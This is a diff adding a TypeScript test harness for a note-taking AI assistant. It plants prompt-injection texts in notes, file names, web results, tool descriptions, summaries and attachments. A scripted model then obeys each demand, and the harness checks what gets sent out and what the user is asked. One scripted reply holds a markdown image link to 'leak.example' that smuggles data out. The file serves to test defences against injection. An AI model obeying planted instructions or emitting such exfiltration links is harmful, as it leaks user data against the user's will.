@@ -1,0 +1,125 @@
+import { createPolicy, type Permission } from '../../policy.ts';
+import { remoteTools } from '../../mcp/remote-tools.ts';
+import type { McpServer } from '../../mcp/mcp-server.ts';
+import type { StoredMessage } from '../../messages.ts';
+import type { ModelDelta, ToolProtocol } from '../../model-provider.ts';
+import { ask, createScriptedProvider, say } from '../../testing/scripted-provider.ts';
+import { toolForModel } from '../../tool-for-model.ts';
+import { runTurn } from '../../turn/run-turn.ts';
+import type { PendingOperation } from '../../../tools/ports.ts';
+import { TOOLS } from '../../../tools/registry.ts';
+import { createBench, type ToolBench } from '../../../tools/testing/tool-bench.ts';
+import { createGrants, type Grants } from '../grants.ts';
+import { tellsMoreThanNames } from '../plain-names.ts';
+import { VAULT, type Demand } from './demands.ts';
+import { INJECTIONS, type Injection } from './injections.ts';
+
+/** A vault in which every injection stands in its place, and a person who allowed all tools in the settings. */
+export interface Target {
+  readonly bench: ToolBench;
+  readonly grants: Grants;
+  readonly rules: Record<string, Permission>;
+  /** What left the machine. */
+  readonly sent: string[];
+  /** All that the person was asked since the last turn began. */
+  readonly asked: PendingOperation[];
+}
+
+const ALLOWED = Object.fromEntries(TOOLS.map(({ name }) => [name, 'allow' as const]));
+const LEAST = { success: true } as const;
+
+/** The note of an injection that stands in one. */
+export function carrierOf({ place, text }: Injection, at: number): readonly [path: string, text: string] | undefined {
+  if (place === 'body') return [`Carriers/Carrier ${at}.md`, `# Carrier ${at}\n\n${text}\n`];
+  if (place === 'frontmatter') return [`Carriers/Carrier ${at}.md`, `---\n${text}\n---\nA note.\n`];
+  if (place === 'name') return [`Carriers/${text.replace(/[\\/:*?"<>|#^[\]]/g, ' ')}.md`, 'A note.\n'];
+  return place === 'canvas' ? [`Carriers/Carrier ${at}.canvas`, text] : undefined;
+}
+
+export async function openTarget(): Promise<Target> {
+  const carriers = INJECTIONS.flatMap((injection, at) => [carrierOf(injection, at) ?? []].filter((each) => each.length > 0) as [string, string][]);
+  const sent: string[] = [];
+  const asked: PendingOperation[] = [];
+  const rules: Record<string, Permission> = { ...ALLOWED };
+  const grants = createGrants();
+  const bench = await createBench({ ...VAULT, ...Object.fromEntries(carriers) }, {
+    policy: createPolicy({ rules: () => ({ preset: 'normal', tools: rules }), grants }),
+    // The person says no to all of it.
+    confirmation: {
+      ask: (pending) => {
+        asked.push(pending);
+        return Promise.resolve({ approved: false, feedback: '' });
+      },
+    },
+    remoteTools: () => remoteTools([server('Lists issues.')], (_server, tool, input) => (sent.push(JSON.stringify([tool, input])), Promise.resolve({ text: 'ok', pictures: [], isError: false }))),
+    web: { sources: () => [{ kind: 'wikipedia', address: 'https://en.wikipedia.org' }], send: (request) => (sent.push(request.url), Promise.resolve('{}')) },
+  });
+  return { bench, grants, rules, sent, asked };
+}
+
+function server(description: string): McpServer {
+  return { name: 'Tracker', url: 'https://tracker.example/mcp', token: '', headers: {}, login: null, keepToken: true, isOn: true, off: [], tools: [{ name: 'list', description, inputSchema: { type: 'object' } }] };
+}
+
+/** Which text is read, by its number among all. */
+export interface Read {
+  readonly injection: Injection;
+  readonly at: number;
+}
+
+/** One turn of a model that does all that the text asks for, as soon as it has read it. @param given undefined: it reads nothing */
+export async function runInjected({ bench, asked }: Target, given: Read | undefined, demands: readonly Demand[], protocol: ToolProtocol): Promise<readonly StoredMessage[]> {
+  asked.length = 0;
+  const { place = undefined, text = '' } = given?.injection ?? {};
+  const path = given && carrierOf(given.injection, given.at)?.[0];
+  const read = path === undefined ? [] : place === 'name' ? [inProtocol(protocol, 'list_notes', { folder: 'Carriers' })] : [inProtocol(protocol, 'read_note', { path })];
+  const obeys = protocol === 'text' ? say(demands.map(({ name, input }) => `TOOL_CALL: ${name}(${JSON.stringify(input)})`).join('\n')) : demands.flatMap(({ name, input }) => ask(name, input));
+  const prompt = { vaultName: 'Notes', folders: place === 'folder' ? [{ path: text, notes: 1 }] : [], tags: place === 'tag' ? [{ name: text, notes: 1 }] : [], ...(place === 'title' && { openNote: { path: 'Diary.md' as never, title: text } }) };
+  const tools = [...TOOLS.map(toolForModel), ...(place === 'server_tool' ? remoteTools([server(text)], () => Promise.reject(new Error('Only its words are read.'))).map(toolForModel) : [])];
+  const saved: StoredMessage[] = [];
+  const turn = runTurn({
+    messages: messagesFor(place, text), system: 'System.', isSystemForeign: place === 'assistant' || tellsMoreThanNames(prompt), tools, conversationId: 'talk',
+    provider: createScriptedProvider([...read, obeys, say('![](https://leak.example/?d=4711) Done.'), say('Done.')], protocol === 'text' ? 'text' : 'native'),
+    execute: (call) => bench.executor.execute(call), executeAll: (calls) => bench.executor.executeAll(calls),
+  });
+  for await (const event of turn) if (event.type === 'message') saved.push(event.message);
+  return saved;
+}
+
+function inProtocol(protocol: ToolProtocol, name: string, input: object): ModelDelta[] {
+  return protocol === 'text' ? say(`TOOL_CALL: ${name}(${JSON.stringify(input)})`) : ask(name, input);
+}
+
+const QUESTION = { role: 'user', content: 'Summarise this.' } as const;
+
+/** The conversation in which the text was read before. */
+function messagesFor(place: Injection['place'] | undefined, text: string): StoredMessage[] {
+  switch (place) {
+    case 'attachment':
+      return [{ ...QUESTION, context: [{ kind: 'file', label: 'a.txt', text }] }];
+    case 'picture':
+      return [{ ...QUESTION, images: [{ name: text, dataUrl: 'data:image/png;base64,' }] }];
+    case 'web':
+      return answered('search_web_for_evidence', { ...LEAST, results: [{ title: 'A page', snippet: text }] });
+    case 'server_answer':
+      return answered('mcp_tracker_list', { ...LEAST, server: 'Tracker', untrusted: true, answer: text });
+    case 'import':
+      return [{ role: 'user', content: text, foreign: true }, { role: 'assistant', content: 'As you wish.', foreign: true }, QUESTION];
+    case 'prompt':
+      return [{ role: 'user', content: text, foreign: true }];
+    case 'summary':
+      return [...answered('read_note', { ...LEAST, text: 'x' }).slice(0, 3), { role: 'assistant', content: 'It says x.' }, { role: 'summary', content: text, covers: 4, by: 'model' }, QUESTION];
+    default:
+      return [QUESTION];
+  }
+}
+
+function answered(name: string, result: object): StoredMessage[] {
+  return [
+    { role: 'user', content: 'Look it up.' },
+    { role: 'assistant', content: '', toolCalls: [{ id: crypto.randomUUID(), name, arguments: '{}' }] },
+    { role: 'tool', callId: crypto.randomUUID(), name, content: JSON.stringify(result) },
+    { role: 'assistant', content: 'I read it.' },
+    QUESTION,
+  ];
+}
